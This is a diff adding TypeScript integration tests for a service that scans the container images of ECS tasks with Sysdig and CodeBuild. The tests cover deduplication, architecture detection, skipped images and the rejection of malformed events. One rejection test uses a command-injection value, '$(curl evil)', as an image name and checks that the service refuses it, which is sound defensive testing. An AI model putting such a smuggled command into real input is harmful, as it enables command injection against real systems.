@@ -1,0 +1,202 @@
+import { ECSClient, RegisterTaskDefinitionCommand } from "@aws-sdk/client-ecs";
+import { SendMessageCommand, SQSClient } from "@aws-sdk/client-sqs";
+import { functionLog } from "./function-log";
+import { TestInstallation, until } from "./installation";
+import { container, digestOf, keyOf, taskArn } from "./task-event";
+
+let installation: TestInstallation;
+
+beforeAll(async () => {
+  installation = await TestInstallation.create({ exclude_images: ["docker.io/library/excluded*"] });
+}, 300_000);
+
+afterAll(() => installation?.remove());
+
+test("a service of three tasks with two images and a sidecar is scanned with one build per image", async () => {
+  const containers = [
+    { name: "web", ...container("shop/web:1") },
+    { name: "worker", ...container("shop/worker:1") },
+    { name: "ecs-service-connect-Xy1", image: "sidecar" },
+  ];
+
+  await installation.send(...["a", "b", "c"].map((id) => ({ id, containers })));
+
+  const web = await installation.untilRow(keyOf("shop/web:1"), { verdict: "PASSED", scanState: undefined });
+  await installation.untilRow(keyOf("shop/worker:1"), { verdict: "PASSED" });
+  await installation.untilQueueIsEmpty();
+  expect(await installation.buildsOf(digestOf("shop/web:1"))).toEqual([
+    { arn: web.buildArn, status: "SUCCEEDED" },
+  ]);
+  expect(await installation.buildsOf(digestOf("shop/worker:1"))).toHaveLength(1);
+  expect(web).toMatchObject({
+    reference: "docker.io/shop/web:1",
+    repository: "docker.io/shop/web",
+    platform: "linux/amd64",
+    counts: { critical: 0, high: 0, medium: 0, low: 3, negligible: 2 },
+    scannedDigest: digestOf("shop/web:1"),
+    origin: "inline",
+  });
+  expect(await installation.rows()).toHaveLength(2);
+});
+
+test("the report of a failed image is in Sysdig and in CodeBuild, and its build is green", async () => {
+  await installation.send({ id: "d", containers: [container("shop/vulnerable-api:2")] });
+
+  const row = await installation.untilRow(keyOf("shop/vulnerable-api:2"), { verdict: "FAILED" });
+
+  expect(row.counts).toEqual({ critical: 2, high: 5, medium: 8, low: 4, negligible: 1 });
+  const uploads = await installation.aws.sysdig.results();
+  const uploaded = uploads.find(({ digest }) => digest === digestOf("shop/vulnerable-api:2"));
+  expect(row.resultUrl).toContain(`/results/${uploaded?.resultId}/`);
+  const [build] = await installation.buildsOf(digestOf("shop/vulnerable-api:2"));
+  expect(build?.status).toBe("SUCCEEDED");
+  const report = (await installation.aws.reports()).find(({ buildArn }) => buildArn === build?.arn);
+  expect(report?.xml).toContain("<failure");
+});
+
+test("a repeated event, and another task of a scanned image, start nothing", async () => {
+  await installation.send({ id: "e", containers: [container("shop/repeated:1")] });
+  const before = await installation.untilRow(keyOf("shop/repeated:1"), { verdict: "PASSED" });
+
+  await installation.send(
+    { id: "e", containers: [container("shop/repeated:1")] },
+    { id: "f", containers: [container("shop/repeated:1")] },
+  );
+  await installation.untilQueueIsEmpty();
+
+  expect(await installation.buildsOf(digestOf("shop/repeated:1"))).toHaveLength(1);
+  expect(await installation.row(keyOf("shop/repeated:1"))).toEqual(before);
+});
+
+test("the last sighting is written again after an hour", async () => {
+  await installation.send({ id: "g", containers: [container("shop/seen:1")] });
+  await installation.untilRow(keyOf("shop/seen:1"), { verdict: "PASSED" });
+  await installation.passTime(keyOf("shop/seen:1"), "lastSeenAt");
+
+  await installation.send({ id: "h", containers: [container("shop/seen:1")] });
+
+  const row = await installation.untilRow(keyOf("shop/seen:1"), { lastTaskArn: taskArn("h") });
+  expect(new Date(row.lastSeenAt ?? 0).getFullYear()).toBeGreaterThan(2020);
+});
+
+test("a crash-looping task that never ran is scanned, a task that ran and stopped is not", async () => {
+  const stopped = {
+    lastStatus: "STOPPED",
+    desiredStatus: "STOPPED",
+    pullStoppedAt: "2026-01-01T00:00:00.000Z",
+  };
+
+  await installation.send(
+    { id: "i", containers: [container("shop/ran:1")], detail: stopped },
+    { id: "j", containers: [container("shop/crashing:1")], detail: { ...stopped, startedAt: undefined } },
+    { id: "k", containers: [container("shop/ec2:1")], detail: { launchType: "EC2" } },
+  );
+
+  await installation.untilRow(keyOf("shop/crashing:1"), { verdict: "PASSED" });
+  await installation.untilQueueIsEmpty();
+  expect(await installation.row(keyOf("shop/ran:1"))).toBeUndefined();
+  expect(await installation.row(keyOf("shop/ec2:1"))).toBeUndefined();
+});
+
+test("without an architecture in the event the task definition decides; Windows and excluded images are skipped", async () => {
+  const ecs = new ECSClient(installation.aws.clientConfig);
+  const register = async (
+    family: string,
+    runtimePlatform: {
+      cpuArchitecture: "ARM64" | "X86_64";
+      operatingSystemFamily: "LINUX" | "WINDOWS_SERVER_2022_CORE";
+    },
+  ) => {
+    const { taskDefinition } = await ecs.send(
+      new RegisterTaskDefinitionCommand({
+        family,
+        runtimePlatform,
+        containerDefinitions: [{ name: "app", image: "x" }],
+      }),
+    );
+    return { attributes: undefined, taskDefinitionArn: taskDefinition?.taskDefinitionArn };
+  };
+  const arm = await register("arm", { cpuArchitecture: "ARM64", operatingSystemFamily: "LINUX" });
+  const windows = await register("win", {
+    cpuArchitecture: "X86_64",
+    operatingSystemFamily: "WINDOWS_SERVER_2022_CORE",
+  });
+  await installation.aws.sysdig.setImage("shop/arm:1", { architecture: "arm64" });
+
+  await installation.send(
+    { id: "l", containers: [container("shop/arm:1")], detail: arm },
+    { id: "m", containers: [container("shop/windows:1")], detail: windows },
+    { id: "n", containers: [container("excluded-base:1")] },
+    { id: "o", containers: [container("shop/unknown-definition:1")], detail: { attributes: undefined } },
+  );
+
+  await installation.untilRow(keyOf("shop/arm:1", "linux/arm64"), { verdict: "PASSED" });
+  await installation.untilRow(keyOf("shop/unknown-definition:1"), { verdict: "PASSED" });
+  await installation.untilQueueIsEmpty();
+  expect(await installation.row(keyOf("shop/windows:1"))).toBeUndefined();
+  expect(await installation.row(keyOf("excluded-base:1"))).toBeUndefined();
+  expect(await functionLog(installation, "trigger_function_name")).toEqual(
+    expect.arrayContaining([
+      expect.objectContaining({
+        message: "containers skipped",
+        skipped: [{ container: "app", reason: "windows" }],
+      }),
+      expect.objectContaining({
+        message: "containers skipped",
+        skipped: [{ container: "app", reason: "excluded" }],
+      }),
+    ]),
+  );
+});
+
+test("what can never succeed is logged, counted and acknowledged, and its siblings are served", async () => {
+  const queue = new SQSClient(installation.aws.clientConfig);
+  for (const MessageBody of ["not JSON", '{"source":"aws.ec2"}']) {
+    await queue.send(new SendMessageCommand({ QueueUrl: installation.output("queue_url"), MessageBody }));
+  }
+
+  await installation.send(
+    { id: "empty", containers: [] },
+    {
+      id: "bad",
+      containers: [
+        { name: "shell", image: "$(curl evil)" },
+        { name: "long", image: "a".repeat(300) },
+        { name: "digest", image: "shop/x:1", imageDigest: "sha256:nothex" },
+        { name: "good", ...container("shop/sibling:1") },
+        { name: "ecs-service-connect-fake", ...container("shop/hidden:1") },
+      ],
+    },
+    {
+      id: "mips",
+      containers: [container("shop/mips:1")],
+      detail: { attributes: [{ name: "ecs.cpu-architecture", value: "mips" }] },
+    },
+  );
+
+  await installation.untilRow(keyOf("shop/sibling:1"), { verdict: "PASSED" });
+  await installation.untilRow(keyOf("shop/hidden:1"), { verdict: "PASSED" });
+  await installation.untilQueueIsEmpty();
+  expect(await installation.messagesIn("dead_letter_queue_url")).toBe(0);
+  await until("every rejection to be logged", async () => {
+    const log = await functionLog(installation, "trigger_function_name");
+    const containers = log
+      .filter(({ message }) => message === "container rejected")
+      .map((line) => line.container);
+    const events = log.filter(({ message }) => message === "event rejected").map((line) => line.reason);
+    return (
+      ["shell", "long", "digest", "app"].every((name) => containers.includes(name)) && events.length === 3
+    );
+  });
+  const rejected = (await functionLog(installation, "trigger_function_name")).flatMap(
+    (line) => line.EventsRejected ?? [],
+  );
+  expect(rejected.reduce((sum: number, count) => sum + Number(count), 0)).toBe(7);
+  expect(await installation.row("docker.io/shop/mips:1#linux/amd64")).toBeUndefined();
+});
+
+test("an image without a digest is scanned by its reference", async () => {
+  await installation.send({ id: "p", containers: [{ image: "public.ecr.aws/shop/tool" }] });
+
+  await installation.untilRow("public.ecr.aws/shop/tool:latest#linux/amd64", { verdict: "PASSED" });
+});
